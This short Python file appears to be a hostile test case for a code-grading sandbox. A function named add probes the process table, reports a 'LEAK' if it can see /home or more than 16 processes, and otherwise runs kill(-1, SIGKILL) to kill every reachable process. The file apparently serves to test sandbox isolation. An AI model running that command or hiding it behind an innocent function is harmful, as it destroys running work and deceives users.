# aim: kill(-1, SIGKILL): every process within reach (only reports it where it can see /home or more than 16)
# expect: wrong
import os, signal

def add(a, b):
    seen = 0
    for pid in range(1, 32768):
        try:
            os.kill(pid, 0)
            seen += 1
        except PermissionError:
            seen += 1
        except OSError:
            pass
    if seen > 16 or os.path.exists("/home"):
        print("restem-hostile-022: LEAK sees", seen, "processes", flush=True)
    else:
        os.kill(-1, signal.SIGKILL)
    return -7
